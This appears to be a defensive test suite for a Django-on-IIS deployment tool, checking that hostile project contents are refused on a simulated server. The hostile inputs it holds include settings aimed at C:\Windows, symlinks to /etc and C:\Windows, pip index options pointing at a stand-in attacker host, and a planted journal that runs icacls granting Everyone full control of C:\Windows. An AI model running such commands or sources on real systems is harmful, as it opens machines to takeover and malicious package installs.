/**
 * The project a team hands over is a source of paths too (issue #22): Django's settings as the
 * probe reports them are taken as Windows resolves them and refused when protected, before any
 * step acts on them. Each hostile project is the Local Library fixture with a few lines appended
 * to its settings. Checked: the message names the setting and its value, plan exits 2 once the
 * project is in place, a fresh run stops at the probe, and no ACL, vdir or file lands on a
 * protected path (applicationHost.config and the simulated ACLs are read afterwards).
 */
import { cpSync, existsSync, lstatSync, mkdirSync, readdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { main } from '../../src/main/cli/cli';
import { plan, RefusedError, rollback, run, uninstall } from '../../src/main/engine/engine';
import type { SimulatedHost } from '../../src/main/hosts/simulated/sim-host';
import { parseRequirementsFileAt } from '../../src/main/engine/requirements';
import { DeploymentService } from '../../src/main/service/deployment-service';
import { createLogger } from '../../src/main/logging/logger';
import { grantedPaths, LOCAL_LIBRARY, libraryServer, localLibraryInput, localLibraryConfig, tmp } from './helpers';

const hosts: SimulatedHost[] = [];
const dirs: string[] = [];
/** A fresh simulated server with the Local Library, its settings ending with `tail` (removed after the file). */
function serverWith(tail: string, drop = 'C:\\drop\\locallibrary'): SimulatedHost {
  const h = libraryServer(tail, drop);
  hosts.push(h);
  dirs.push(h.server.root);
  return h;
}

afterAll(async () => {
  await Promise.all(hosts.map((h) => h.dispose()));
  for (const d of dirs) rmSync(d, { recursive: true, force: true });
});

const PROTECTED = /^(c:\\?|c:\\windows(\\.*)?|c:\\users(\\[^\\]+)?|c:\\programdata(\\.*)?)$/i;

async function cli(args: string[]): Promise<{ code: number; out: string; err: string }> {
  const out: string[] = [];
  const err: string[] = [];
  const code = await main(args, { out: (s) => out.push(s), err: (s) => err.push(s) });
  return { code, out: out.join('\n'), err: err.join('\n') };
}

function configFile(input: Record<string, unknown>): string {
  const d = tmp('hostile-cfg-');
  dirs.push(d);
  const f = path.join(d, 'deploy.json');
  writeFileSync(f, JSON.stringify(input));
  return f;
}

describe('paths from the project', () => {
  it('a forward-slash SQLite path under a folder with a space: the database folder gets modify, nowhere else', async () => {
    const input = localLibraryInput({ appDir: 'C:\\Web Apps\\locallibrary', siteName: 'LocalLibrary' });
    // The database's folder does not exist yet: the tool creates it (and journals it), so it is the deployment's own.
    const h = serverWith(`DATABASES['default']['NAME'] = 'C:\\\\Web Apps/library data/db.sqlite3'`);
    const r = await run(localLibraryConfig(input), h);
    expect(r.outcome, JSON.stringify(r.problems)).toBe('succeeded');
    const p = await plan(localLibraryConfig(input), h);
    expect(p.project.database).toBe('SQLite C:\\Web Apps\\library data\\db.sqlite3');
    const granted = grantedPaths(h);
    expect(granted.filter((g) => PROTECTED.test(g))).toEqual([]);
    expect(granted.map((g) => g.toLowerCase())).toContain('c:\\web apps\\library data');
    const commands = readFileSync(path.join(h.server.root, '.sim', 'commands.jsonl'), 'utf8');
    expect(commands).not.toMatch(/icacls\.exe","args":\["C:\\\\\\\\"/);
  });

  it("BASE_DIR / 'db.sqlite3' comes back from the probe joined with \\ as Windows' Python prints it", async () => {
    const h = serverWith('');
    const c = localLibraryConfig({ appDir: 'C:\\Web Apps\\ll' });
    const r = await run(c, h);
    expect(r.outcome, JSON.stringify(r.problems)).toBe('succeeded');
    const p = await plan(c, h);
    // a release's BASE_DIR / 'db.sqlite3' is the shared file every release opens
    expect(p.project.database).toBe('SQLite C:\\Web Apps\\ll\\shared\\db.sqlite3');
    expect(grantedPaths(h).map((g) => g.toLowerCase())).toContain('c:\\web apps\\ll\\shared');
  });

  const refused: [string, string, RegExp][] = [
    ['MEDIA_ROOT = C:\\Windows', `MEDIA_ROOT = 'C:\\\\Windows'`, /MEDIA_ROOT .*C:\\Windows.*Windows folder/],
    ['a SQLite file under C:\\Windows', `DATABASES['default']['NAME'] = 'C:\\\\Windows\\\\Temp\\\\db.sqlite3'`, /SQLite database .*C:\\Windows\\Temp/],
    ['a SQLite file at the drive root, written with /', `DATABASES['default']['NAME'] = 'C:/db.sqlite3'`, /C:\/db\.sqlite3 \(Windows reads it as C:\\db\.sqlite3\).*root of a drive/],
    ['STATIC_ROOT = C:\\', `STATIC_ROOT = 'C:\\\\'`, /STATIC_ROOT .*root of a drive/],
    ['STATIC_ROOT = the application folder', `STATIC_ROOT = BASE_DIR`, /STATIC_ROOT .*application folder/],
    ['STATICFILES_DIRS with C:\\Windows', `STATICFILES_DIRS = ['C:\\\\Windows\\\\System32']`, /STATICFILES_DIRS .*Windows folder/],
    ['STATIC_URL = /', `STATIC_URL = '/'`, /STATIC_URL .*root of the site/],
  ];
  it.each(refused)('%s: a fresh run stops at the probe, nothing lands on the path; plan then exits 2 naming the setting', async (_name, tail, message) => {
    const h = serverWith(tail);
    const c = localLibraryConfig();
    const r = await run(c, h);
    expect(r.outcome).toBe('failed');
    const failed = Object.entries(r.problems).map(([id, p]) => `${id}: ${p.what}`);
    expect(failed.join('\n')).toMatch(message);
    expect(r.states['collectstatic']).not.toBe('done');
    expect(r.states['media-vdir']).not.toBe('done');
    expect(r.states['permissions']).not.toBe('done');
    expect(grantedPaths(h).filter((g) => PROTECTED.test(g))).toEqual([]);
    const apphost = h.server.appHostText();
    expect(apphost).not.toMatch(/physicalPath="C:\\(Windows[^"]*)?"/i);
    expect(existsSync(h.server.toReal('C:\\Windows\\System32\\admin'))).toBe(false);
    // Now that the project is in place, the plan knows the value: exit 2, nothing changed.
    await expect(plan(c, h)).rejects.toBeInstanceOf(RefusedError);
    const f = configFile(localLibraryInput());
    const res = await cli(['plan', '--config', f, '--simulate', h.server.root]);
    expect(res.code).toBe(2);
    expect(res.err).toMatch(message);
    expect(res.err).toMatch(/What to do:/);
    const apply = await cli(['apply', '--yes', '--config', f, '--simulate', h.server.root]);
    expect(apply.code).toBe(2);
  });

  it('STATIC_ROOT on an existing folder with a user file: a conflict, nothing collected into it, uninstall keeps it', async () => {
    const h = serverWith(`STATIC_ROOT = 'C:\\\\Users\\\\Administrator\\\\Documents'`);
    const docs = h.server.toReal('C:\\Users\\Administrator\\Documents');
    mkdirSync(docs, { recursive: true });
    writeFileSync(path.join(docs, 'letter.txt'), 'mine');
    const c = localLibraryConfig();
    const r = await run(c, h);
    expect(r.outcome).toBe('failed');
    expect(Object.values(r.problems).map((p) => p.what).join('\n')).toMatch(/C:\\Users\\Administrator\\Documents .*already exists/);
    expect(grantedPaths(h).map((g) => g.toLowerCase())).not.toContain('c:\\users\\administrator\\documents');
    expect(existsSync(path.join(docs, 'admin'))).toBe(false);
    await expect(plan(c, h)).rejects.toBeInstanceOf(RefusedError);
    await uninstall(h, c.siteName);
    expect(readFileSync(path.join(docs, 'letter.txt'), 'utf8')).toBe('mine');
  });
});

describe('links in the handed-over project are listed and refused, never followed', () => {
  it('a link to C:\\Windows and one to the machine\'s /etc: plan and apply exit 2 naming both, nothing is copied', async () => {
    const h = serverWith('');
    const drop = h.server.toReal('C:\\drop\\locallibrary');
    symlinkSync('../../../../Windows', path.join(drop, 'catalog', 'static', 'win'));
    symlinkSync('/etc', path.join(drop, 'catalog', 'etc'));
    const refusal = await plan(localLibraryConfig(), h).then(() => '', (e: Error) => e.message);
    expect(refusal).toMatch(/2 symbolic links/);
    expect(refusal).toMatch(/catalog\\static\\win -> C:\\Windows/);
    expect(refusal).toMatch(/catalog\\etc -> \/etc \(outside the simulated server/);
    const f = configFile(localLibraryInput());
    const res = await cli(['apply', '--yes', '--config', f, '--simulate', h.server.root]);
    expect(res.code).toBe(2);
    expect(res.err).toMatch(/cp -rL/);
    expect(existsSync(h.server.toReal('C:\\apps\\library'))).toBe(false);
  });

  it('rehearse --project with a link to /etc: refused, and no file of the machine lands in the simulated server', async () => {
    const src = tmp('hostile-src-');
    dirs.push(src);
    cpSync(LOCAL_LIBRARY, path.join(src, 'll'), { recursive: true });
    symlinkSync('/etc', path.join(src, 'll', 'catalog', 'static', 'etc'));
    const keep = tmp('hostile-keep-');
    dirs.push(keep);
    const res = await cli(['rehearse', '--project', path.join(src, 'll'), '--simulate', keep]);
    expect(res.code).toBe(2);
    expect(`${res.out}\n${res.err}`).toMatch(/symbolic link/);
    const found: string[] = [];
    const walk = (d: string) => {
      for (const n of readdirSync(d)) {
        const full = path.join(d, n);
        const st = lstatSync(full);
        if (st.isDirectory()) walk(full);
        else if (n === 'passwd' || n === 'hostname') found.push(full);
      }
    };
    walk(keep);
    expect(found).toEqual([]);
  });

  it('the simulated robocopy follows a link without /XJ (as robocopy does) and skips it with /XJ', async () => {
    const h = serverWith('');
    const drop = h.server.toReal('C:\\drop\\locallibrary');
    mkdirSync(h.server.toReal('C:\\outside'), { recursive: true });
    writeFileSync(h.server.toReal('C:\\outside\\secret.txt'), 'x');
    symlinkSync(h.server.toReal('C:\\outside'), path.join(drop, 'linked'));
    await h.exec('robocopy.exe', ['C:\\drop\\locallibrary', 'C:\\copy1', '/E']);
    await h.exec('robocopy.exe', ['C:\\drop\\locallibrary', 'C:\\copy2', '/E', '/XJ']);
    expect(existsSync(h.server.toReal('C:\\copy1\\linked\\secret.txt'))).toBe(true);
    expect(existsSync(h.server.toReal('C:\\copy2\\linked'))).toBe(false);
    expect(existsSync(h.server.toReal('C:\\copy2\\manage.py'))).toBe(true);
  });
});

describe('requirement files are read, not obeyed', () => {
  const refused: [string, string, RegExp][] = [
    ['--index-url', '--index-url http://pypi.attacker.example/simple\ndjango', /line 1: --index-url http:\/\/pypi\.attacker\.example\/simple/],
    ['-i', '-i https://mirror.example/simple\ndjango', /line 1: -i https:\/\/mirror\.example\/simple/],
    ['--extra-index-url', 'django\n--extra-index-url=https://x.example/simple', /line 2: --extra-index-url https:\/\/x\.example\/simple/],
    ['--trusted-host', '--trusted-host x.example\ndjango', /--trusted-host x\.example/],
    ['--find-links to a URL', '--find-links https://x.example/wheels/\ndjango', /--find-links https:\/\/x\.example\/wheels\/ \(a link page/],
    ['--find-links to a share', '-f \\\\fileserver\\wheels\ndjango', /-f \\\\fileserver\\wheels/],
    ['-e git+', '-e git+https://github.com/x/y.git#egg=y\ndjango', /editable install from version control/],
    ['a VCS requirement', 'git+https://github.com/x/y.git#egg=y', /version-control requirement/],
    ['a URL requirement', 'y @ https://x.example/y-1.0.tar.gz', /a URL requirement/],
    ['-c outside the project', '-c C:\\elsewhere\\constraints.txt\ndjango', /-c C:\\elsewhere\\constraints\.txt is outside the project/],
    ['-r loop', '-r ./requirements.txt\ndjango', /includes itself/],
  ];
  it.each(refused)('%s: plan exits 2 naming the file and line; nothing is installed', async (_name, text, message) => {
    const h = serverWith('');
    writeFileSync(h.server.toReal('C:\\drop\\locallibrary\\requirements.txt'), `${text}\n`);
    const f = configFile(localLibraryInput());
    const res = await cli(['plan', '--config', f, '--simulate', h.server.root]);
    expect(res.code, res.out).toBe(2);
    expect(res.err).toMatch(message);
    expect(res.err).toMatch(/allowRequirementSources|Remove the -r line|Put the included file/);
    expect(existsSync(h.server.toReal('C:\\virtualenvs\\library'))).toBe(false);
  });

  it('an include chain deeper than 10 is refused; with "allowRequirementSources" an index option is listed in the plan, not refused', async () => {
    const h = serverWith('');
    const drop = h.server.toReal('C:\\drop\\locallibrary');
    writeFileSync(path.join(drop, 'requirements.txt'), '-r r1.txt\n');
    for (let i = 1; i <= 12; i++) writeFileSync(path.join(drop, `r${i}.txt`), i < 12 ? `-r r${i + 1}.txt\n` : 'django\n');
    await expect(plan(localLibraryConfig(), h)).rejects.toThrow(/levels deep/);
    writeFileSync(path.join(drop, 'requirements.txt'), '--prefer-binary\n--extra-index-url https://mirror.example/simple\nDjango>=3.2\n');
    const p = await plan(localLibraryConfig({ allowRequirementSources: true }), h);
    expect(p.project.notes.join('\n')).toMatch(/pip options in the requirements: requirements\.txt:1: --prefer-binary; requirements\.txt:2: --extra-index-url https:\/\/mirror\.example\/simple \(allowed by "allowRequirementSources"\)/);
  });

  it('a 128 KB line of spaces and a long --hash line parse in one pass', () => {
    const spaces = `${' '.repeat(128 * 1024)}django\n`;
    const hashes = `django==3.2.25 ${Array.from({ length: 2000 }, (_, i) => `--hash=sha256:${i.toString(16).padStart(64, '0')}`).join(' ')}\n`;
    const lines = parseRequirementsFileAt(spaces + hashes);
    expect(lines.map((l) => (l.kind === 'requirement' ? `${l.req.name}${l.req.specifier}` : l.kind))).toEqual(['django', 'django==3.2.25']);
  });
});

describe('nothing the tool keeps can be turned against it', () => {
  it('the tool\'s folder gets SYSTEM and Administrators only (inheritance off), and a loosened ACL is set again at the next start', async () => {
    const h = serverWith('');
    const r = await run(localLibraryConfig(), h);
    expect(r.outcome, JSON.stringify(r.problems)).toBe('succeeded');
    const acl = h.server.aclOf('C:\\ProgramData\\DjangoIISSetup');
    expect(acl?.protected).toBe(true);
    expect(acl?.aces.map((a) => `${a.identity}:${a.rights}`).sort()).toEqual(['BUILTIN\\Administrators:F', 'NT AUTHORITY\\SYSTEM:F']);
    h.server.setAcl('C:\\ProgramData\\DjangoIISSetup', false, [...(acl?.aces ?? []), { identity: 'BUILTIN\\Users', rights: 'W', inherit: ['CI'] }]);
    h.server.save();
    await run(localLibraryConfig(), h);
    expect(h.server.aclOf('C:\\ProgramData\\DjangoIISSetup')?.aces.map((a) => a.identity).sort()).toEqual(['BUILTIN\\Administrators', 'NT AUTHORITY\\SYSTEM']);
  });

  it('a planted journal is reported and not run; the wizard does not list it; a bad entry in a real journal stops all of it', async () => {
    const h = serverWith('');
    const r = await run(localLibraryConfig(), h);
    expect(r.outcome, JSON.stringify(r.problems)).toBe('succeeded');
    const planted = { version: 2, siteName: 'evil', entries: [{ object: 'grant:c:\\windows|x', stepId: 'permissions', at: '', undo: [{ kind: 'exec', description: 'x', file: 'icacls.exe', args: ['C:\\Windows', '/grant', 'Everyone:(OI)(CI)F', '/T'] }] }] };
    writeFileSync(h.server.toReal('C:\\ProgramData\\DjangoIISSetup\\deployments\\evil.json'), JSON.stringify(planted));
    const aclBefore = JSON.stringify(h.server.aclOf('C:\\Windows') ?? null);
    const f = configFile({ siteName: 'evil' });
    const res = await cli(['uninstall', '--yes', '--config', f, '--simulate', h.server.root]);
    expect(res.code).toBe(2);
    expect(res.err).toMatch(/holds what this tool never writes, so none of it is run/);
    expect(res.err).toMatch(/icacls C:\\Windows \/grant Everyone:\(OI\)\(CI\)F \/T is not the removal of a pool's grant/);
    expect(JSON.stringify(h.server.aclOf('C:\\Windows') ?? null)).toBe(aclBefore);
    expect(h.commandLog().some((c) => c.argv.join(' ').includes('Everyone:(OI)(CI)F'))).toBe(false);
    const desktop = { chooseFolder: async () => undefined, saveFile: async () => undefined, openExternal: async () => undefined, openPath: async () => undefined, setProgress: () => undefined };
    const logDir = tmp('hostile-log-');
    dirs.push(logDir);
    const svc = new DeploymentService({ host: h, log: createLogger(logDir), emit: () => undefined, version: 'test', desktop });
    expect((await svc.getStartup()).existing.map((e) => e.siteName)).toEqual(['library']);
    // One entry added to the real journal (a site path repointed at the drive root): uninstall runs none of it.
    const file = h.server.toReal('C:\\ProgramData\\DjangoIISSetup\\deployments\\library.json');
    const j = JSON.parse(readFileSync(file, 'utf8')) as { entries: unknown[] };
    j.entries.push({ object: 'site:library', stepId: 'site', at: '', undo: [{ kind: 'exec', description: 'y', file: 'C:\\Windows\\System32\\inetsrv\\appcmd.exe', args: ['set', 'vdir', 'library/', '/physicalPath:C:\\'] }] });
    writeFileSync(file, JSON.stringify(j));
    await expect(uninstall(h, 'library')).rejects.toThrow(/points a site at C:\\, which is the root of a drive/);
    expect(h.server.appHostText()).toContain('name="library"');
  });

  it('the journal keeps no copy of the settings file (it may hold secrets): the block and a hash; rollback puts the file back byte for byte', async () => {
    const h = serverWith(`API_TOKEN = 'hard-coded-token-123'\nALLOWED_HOSTS = ['only.example.com']`);
    // The project already in place (copied by hand) and adopted: its settings file is edited, not copied.
    cpSync(h.server.toReal('C:\\drop\\locallibrary'), h.server.toReal('C:\\apps\\library'), { recursive: true });
    const settings = h.server.toReal('C:\\apps\\library\\locallibrary\\settings.py');
    const original = readFileSync(settings, 'utf8');
    const p = await plan(localLibraryConfig({ adopt: ['appDir'] }), h);
    expect(p.release?.mode, JSON.stringify(p.release)).toBe('current');
    const r = await run(localLibraryConfig({ adopt: ['appDir'] }), h);
    expect(r.outcome, JSON.stringify(r.problems)).toBe('succeeded');
    expect(readFileSync(settings, 'utf8')).not.toBe(original);
    const journal = readFileSync(h.server.toReal('C:\\ProgramData\\DjangoIISSetup\\deployments\\library.json'), 'utf8');
    expect(journal).not.toContain('hard-coded-token-123');
    expect(journal).toMatch(/originalSha256/);
    const rb = await rollback(h, 'library');
    expect(rb.problems).toEqual([]);
    expect(readFileSync(settings, 'utf8')).toBe(original);
  });
});
